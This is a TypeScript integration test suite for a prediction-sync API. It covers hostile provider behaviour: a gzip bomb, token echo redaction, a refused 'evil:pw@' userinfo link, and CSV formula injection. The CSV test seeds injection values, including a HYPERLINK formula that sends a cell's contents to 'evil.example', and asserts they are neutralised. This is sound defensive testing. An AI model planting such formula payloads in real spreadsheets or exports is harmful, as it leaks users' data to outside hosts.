import { connect as tcpConnect } from "node:net";
import { once } from "node:events";
import { buildServer } from "../../src/api/server.js";
import { connect, startApi, type Api } from "../support/api.js";
import { recordScenario } from "../support/fault-summary.js";
import type { Fault, FakePrediction } from "../../dev/fake-replicate.js";
import { API_TOKEN, createHarness, waitFor, type Harness } from "../support/harness.js";
import { generatePredictions } from "../../dev/predictions.js";
import { eventCounts, expectExact, waitForSyncedSince } from "../support/sync-checks.js";
import { captureLogs, dumpDatabase, findSecrets } from "../support/leaks.js";
import { dumpRedis } from "../support/redis.js";
import { WorkerProcess } from "../support/worker-process.js";
import * as producer from "../../src/producer.js";

// Issue 11, provider edges: what a hostile or broken provider can send, one connection per test,
// connected through the real HTTP API.

const TIMEOUT = 120_000;
let h: Harness;
let api: Api;

beforeAll(async () => {
  h = await createHarness({ REPLICATE_TIMEOUT_MS: "2000", JOB_ATTEMPTS: "4", JOB_BACKOFF_MS: "20" });
  api = await startApi(h);
});
afterAll(async () => {
  await api.close();
  await h.close();
});

const eventsOf = (connectionId: string, kind: string) =>
  h.ctx.db.integrationEvent.findMany({ where: { connectionId, kind: kind as never }, orderBy: { id: "asc" } });

test(
  "#2 odd predictions are skipped one by one with a record_rejected event; the run goes on, exact for the rest",
  async () => {
    const truth = generatePredictions({ count: 450, days: 5, seed: 211, idPrefix: "n" });
    const at = truth[0]!.created_at;
    const base = { status: "succeeded", created_at: at, model: "acme/odd", metrics: { predict_time: 1.5 } };
    const longModel = `acme/${"m".repeat(10_000)}`;
    const kept: FakePrediction[] = [
      { ...base, id: "odd-nul", model: "acme/\u0000nul" },
      { ...base, id: "odd-long-model", model: longModel },
    ];
    const rejected = [
      { ...base, id: "odd-huge-time", metrics: { predict_time: 1e15 } },
      { ...base, id: "x".repeat(10_000) },
      { ...base, id: "odd-date", created_at: "yesterday" },
      { ...base, id: "odd-negative", metrics: { predict_time: -3 } },
      { ...base, id: "odd-status", status: "" },
    ];
    const { id } = await connect(h, { name: "oddrecords", predictions: truth, oddRecords: [...kept, ...rejected] }, api);
    await waitForSyncedSince(h, id, null, 30_000);

    // Kept records as stored: NUL stripped, over-long text cut at 256 characters.
    await expectExact(h, id, [...truth, { ...kept[0]!, model: "acme/nul" }, { ...kept[1]!, model: longModel.slice(0, 256) }]);
    const [event, ...more] = await eventsOf(id, "record_rejected");
    expect(more).toHaveLength(0);
    expect(event!.level).toBe("warn");
    const listed = (event!.detail as { rejected: { id: string; reason: string }[] }).rejected;
    expect(listed.map((r) => r.id)).toEqual(["odd-huge-time", `${"x".repeat(128)}…`, "odd-date", "odd-negative", "odd-status"]);
    expect(listed.map((r) => r.reason).join(" ")).toMatch(/predict_time.*id.*created_at.*predict_time.*status/);
    expect(`${event!.message} ${JSON.stringify(event!.detail)}`).not.toContain("acme/odd");
    expect(await eventCounts(h, id)).toMatchObject({ sync_completed: 1 });
    expect((await eventCounts(h, id)).sync_failed).toBeUndefined();
    recordScenario({
      scenario: "#2 odd predictions in a page",
      injected: "NUL in model, predict_time 1e15, 10k-char id, 10k-char model, non-ISO date, negative time, empty status",
      outcome: "2 kept (NUL stripped, model cut to 256), 5 named in one record_rejected event; run completed; exact",
    });
  },
  TIMEOUT,
);

/** The highest RSS seen while `work` runs, sampled every 5 ms, minus the RSS before it. */
async function peakRssGrowth(work: () => Promise<unknown>): Promise<number> {
  const before = process.memoryUsage.rss();
  let peak = before;
  const sampler = setInterval(() => (peak = Math.max(peak, process.memoryUsage.rss())), 5);
  try {
    await work();
  } finally {
    clearInterval(sampler);
  }
  return Math.max(peak, process.memoryUsage.rss()) - before;
}

test(
  "#3 a gzip bomb (1 MB expanding to 1 GB) is cut off at the decoded-size limit, reported and retried",
  async () => {
    const GB = 1 << 30;
    const truth = generatePredictions({ count: 300, days: 3, seed: 311, idPrefix: "g" });
    let id = "";
    const growth = await peakRssGrowth(async () => {
      ({ id } = await connect(
        h,
        {
          name: "gzipbomb",
          predictions: truth,
          faults: [
            { kind: "gzip-bomb", decodedBytes: GB },
            { kind: "gzip-bomb", decodedBytes: GB },
          ],
        },
        api,
      ));
      await waitForSyncedSince(h, id, null, 60_000);
    });
    expect(growth).toBeLessThan(400 * 2 ** 20);
    await expectExact(h, id, truth);
    const errors = (await eventsOf(id, "provider_error")).map((e) => e.message);
    expect(errors).toHaveLength(2);
    expect(errors[0]).toMatch(/larger than 16777216 bytes decoded/);
    recordScenario({
      scenario: "#3 gzip bomb",
      injected: "2 × gzip page of ~1 MB decoding to 1 GB",
      outcome: `aborted at 16 MiB decoded; peak RSS growth ${Math.round(growth / 2 ** 20)} MB; 2 provider_error events; exact`,
    });
  },
  TIMEOUT,
);

test(
  "#7 a token of any shape echoed by the provider is redacted by value before any error, event, job or log holds it",
  async () => {
    const logs = captureLogs();
    const token = "sk-live.ABCdef1234567890";
    const echo = (status: number): Fault => ({
      kind: "status",
      status,
      headers: status === 429 ? { "retry-after": "1" } : {},
      body: JSON.stringify({ title: `token ${token}`, detail: `Invalid token ${token} (${token.toUpperCase()} is not it either)` }),
    });
    try {
      const { id } = await connect(h, { name: "echoedtoken", token, accountFaults: [echo(429), echo(401)] }, api);
      await waitFor(
        "credential_invalid",
        () => eventsOf(id, "credential_invalid"),
        (e) => e.length === 1,
      );
      // A pause is the customer's outcome: the verify job completes with it (nothing is left failed).
      await waitFor(
        "verify job completed",
        async () => (await h.ctx.queues.queue("verify").getJobs(["completed"])).filter((j) => j?.data.connectionId === id).length,
        (n) => n > 0,
      );
      const places = {
        "event API": (await api.call("GET", `/v1/connections/${id}/events?limit=100`)).text,
        "connection API": (await api.call("GET", `/v1/connections/${id}`)).text,
        database: await dumpDatabase(h.t.url),
        redis: await dumpRedis(h.ctx.redis, h.config.queuePrefix),
        logs: logs.lines.join("\n"),
      };
      expect(places["event API"]).toMatch(/HTTP 401.*Invalid token \[REDACTED\]/);
      expect(findSecrets([token, token.toUpperCase()], places)).toEqual([]);
    } finally {
      logs.stop();
    }
    recordScenario({
      scenario: "#7 provider echoes a non-r8_ token",
      injected: "429 then 401 on /v1/account whose title and detail quote sk-live.… verbatim",
      outcome: "token absent from events, API, Postgres, Redis failedReason/stacktrace and logs ([REDACTED])",
    });
  },
  TIMEOUT,
);

test("#8 a next link with user:password on the API origin is refused, never followed; the next run completes", async () => {
  const truth = generatePredictions({ count: 350, days: 3, seed: 811, idPrefix: "u" });
  const { id, token } = await connect(h, { name: "userinfonext", predictions: truth, faults: [{ kind: "userinfo-next" }] }, api);
  const [refused] = await waitFor(
    "refusal event",
    () => eventsOf(id, "foreign_link_refused"),
    (e) => e.length === 1,
  );
  expect(refused!.message).toMatch(/user name or password/);
  expect(refused!.message).not.toContain("pw");
  // got would have sent the link's user:password as Basic auth.
  expect(h.fake.requests.filter((r) => r.authorization === `Bearer ${token}`).length).toBeGreaterThan(0);
  expect(h.fake.requests.filter((r) => !r.authorization?.startsWith("Bearer "))).toEqual([]);
  expect(await h.ctx.db.connection.findUniqueOrThrow({ where: { id } })).toMatchObject({ status: "connected" });
  expect((await api.call("POST", `/v1/connections/${id}/sync`)).status).toBe(202);
  await waitForSyncedSince(h, id, null);
  await expectExact(h, id, truth);
  expect(await eventCounts(h, id)).toMatchObject({ foreign_link_refused: 1, sync_failed: 1, sync_completed: 1 });
  recordScenario({
    scenario: "#8 next link with userinfo",
    injected: "next → http://evil:pw@<API host>/v1/predictions?…",
    outcome: "not followed (no Basic auth request); foreign_link_refused + sync_failed; still connected; next run exact",
  });
});

test("#6 usage CSV: formula cells neutralised, RFC 4180 quoting (bare CR too), numbers numeric, sent as an attachment", async () => {
  const models = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1", "-2", "@SUM(A1)", "\tx", "a\rb"];
  const truth = generatePredictions({ count: 120, days: 2, seed: 611, idPrefix: "c" }).map((p, i) => ({
    ...p,
    model: models[i % models.length]!,
  }));
  const { id } = await connect(h, { name: "csvinjection", predictions: truth }, api);
  await waitForSyncedSince(h, id, null);
  const [from, to] = [-30, 1].map((d) => new Date(Date.now() + d * 86_400_000).toISOString().slice(0, 10));
  const res = await api.call("GET", `/v1/usage?connectionId=${id}&from=${from}&to=${to}&groupBy=model&format=csv`);
  expect(res.status).toBe(200);
  expect(res.headers.get("content-type")).toMatch(/^text\/csv/);
  expect(res.headers.get("content-disposition")).toBe(`attachment; filename="usage-${from}-${to}.csv"`);
  const rows = res.text.split("\n");
  expect(rows[0]).toMatch(/^line,model,predictions,succeeded,failed,canceled,aborted,inProgress,other,computeSeconds,meteredPredictions,/);
  expect(rows.pop()).toBe("");
  expect(rows.slice(1)).toHaveLength(models.length);
  for (const expected of [
    `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",20,`,
    `'+1,20,`,
    `'-2,20,`,
    `'@SUM(A1),20,`,
    `'\tx,20,`,
    `"a\rb",20,`,
  ]) {
    expect(rows.filter((r) => r.startsWith(`usage,${expected}`))).toHaveLength(1);
  }
  // Numbers stay numbers: the counts and seconds after the model are plain decimals.
  for (const row of rows.slice(1)) expect(row.slice(row.indexOf(",20,") + 1)).toMatch(/^20(,\d+(\.\d+)?){8},/);
  recordScenario({
    scenario: "#6 CSV injection",
    injected: "model names =HYPERLINK(…), +1, -2, @SUM(A1), \\tx, a\\rb",
    outcome: "formula cells prefixed with ', quoted per RFC 4180 (bare CR too), numbers unchanged; Content-Disposition attachment",
  });
});

test(
  "#9 after DELETE answers, the client's own retries stop: only the request already on the wire completes",
  async () => {
    const slow503: Fault = { kind: "status", status: 503, delayMs: 1500 };
    const truth = generatePredictions({ count: 200, days: 2, seed: 911, idPrefix: "w" });
    const { id, token } = await connect(h, { name: "deletemidretry", predictions: truth, faults: [slow503, slow503, slow503] }, api);
    const withToken = () => h.fake.requests.filter((r) => r.authorization === `Bearer ${token}` && r.endpoint === "predictions");
    await waitFor(
      "the first page request on the wire",
      async () => withToken().length,
      (n) => n === 1,
    );
    expect((await api.call("DELETE", `/v1/connections/${id}`)).status).toBe(204);
    const deletedAt = Date.now();
    await waitFor(
      "the request in flight answered and the job settled",
      async () => ({
        unanswered: withToken().filter((r) => r.status === 0).length,
        jobs: (await h.ctx.queues.queue("sync").getJobs(["active", "waiting", "delayed"])).filter((j) => j?.data.connectionId === id)
          .length,
      }),
      (s) => s.unanswered === 0 && s.jobs === 0,
    );
    const late = withToken().filter((r) => r.at > deletedAt);
    expect(late).toEqual([]);
    expect(withToken()).toHaveLength(1);
    recordScenario({
      scenario: "#9 DELETE while the client retries a slow 503",
      injected: "3 × 503 after 1.5 s on the first page; DELETE while the first is on the wire",
      outcome: `${withToken().length} request with the token in all, ${late.length} after DELETE answered`,
    });
  },
  TIMEOUT,
);

test(
  "#10 SIGTERM while a job waits on a hanging provider: the worker exits within 20 s; a later worker completes the run exactly",
  async () => {
    // Workers only as OS processes here, with a provider timeout longer than the hang.
    const own = await createHarness({ REPLICATE_TIMEOUT_MS: "180000", JOB_ATTEMPTS: "4", JOB_BACKOFF_MS: "20" }, { workers: false });
    const processes: WorkerProcess[] = [];
    try {
      const token = "r8_hangingProviderToken000000000000000";
      const truth = generatePredictions({ count: 300, days: 3, seed: 1011, idPrefix: "t" });
      own.fake.addAccount(token, { type: "organization", username: "hang" }, truth);
      own.fake.inject(token, "predictions", { kind: "delay", ms: 120_000 });
      const first = new WorkerProcess(own.env);
      processes.push(first);
      await first.ready();
      const { id } = await producer.connect(own.ctx, { workspaceId: "ws-hang", token });
      await waitFor(
        "the page request hanging",
        async () => own.fake.requests.filter((r) => r.endpoint === "predictions").length,
        (n) => n === 1,
      );
      const sentAt = Date.now();
      let timer: NodeJS.Timeout | undefined;
      const exited = await Promise.race([first.stop().then(() => true), new Promise((r) => (timer = setTimeout(() => r(false), 25_000)))]);
      clearTimeout(timer);
      const took = Date.now() - sentAt;
      expect(exited).toBe(true);
      expect(took).toBeLessThan(20_000);

      const second = new WorkerProcess(own.env);
      processes.push(second);
      await second.ready();
      await waitForSyncedSince(own, id, null);
      await expectExact(own, id, truth);
      expect(await eventCounts(own, id)).toMatchObject({ sync_started: 1, sync_completed: 1 });
      recordScenario({
        scenario: "#10 SIGTERM during a hanging provider request",
        injected: "first page answers after 120 s (timeout 180 s); SIGTERM to the worker process",
        outcome: `exited ${(took / 1000).toFixed(1)} s after SIGTERM (request aborted); a new worker resumed the run; exact`,
      });
    } finally {
      await Promise.all(processes.map((p) => p.kill9()));
      await own.close();
    }
  },
  TIMEOUT,
);

test("shutdown while a request is in flight on a keep-alive connection: its answer closes the connection, close() does not wait 72 s", async () => {
  const own = await buildServer(h.ctx);
  const { port } = new URL(await own.listen({ host: "127.0.0.1", port: 0 }));
  const socket = tcpConnect(Number(port), "127.0.0.1");
  await once(socket, "connect");
  let answer = "";
  socket.on("data", (d: Buffer) => (answer += d.toString()));
  const serverEnded = once(socket, "end");
  const body = JSON.stringify({ workspaceId: "ws-drain" });
  // Routed before the shutdown begins (headers sent), answered after it (body still to come). This
  // listener runs after Fastify's own, so the request has been routed when it fires.
  const routed = once(own.server, "request");
  socket.write(
    `POST /v1/connections HTTP/1.1\r\nhost: x\r\nconnection: keep-alive\r\nauthorization: Bearer ${API_TOKEN}\r\n` +
      `content-type: application/json\r\ncontent-length: ${body.length}\r\n\r\n${body.slice(0, 5)}`,
  );
  await routed;
  const closing = own.close();
  socket.write(body.slice(5));
  let timer: NodeJS.Timeout | undefined;
  const outcome = await Promise.race([
    Promise.all([closing, serverEnded]).then(() => "closed"),
    new Promise((r) => (timer = setTimeout(() => r("still open"), 10_000))),
  ]);
  clearTimeout(timer);
  socket.destroy();
  expect(outcome).toBe("closed");
  expect(answer).toMatch(/^HTTP\/1\.1 400/);
  expect(answer.toLowerCase()).toContain("connection: close");
  recordScenario({
    scenario: "Shutdown with a request in flight on a keep-alive connection",
    injected: "close() between a request's headers and its body; the client keeps the connection open",
    outcome: "the request is answered with Connection: close; the server has closed within 10 s (was: 72 s keep-alive)",
  });
});
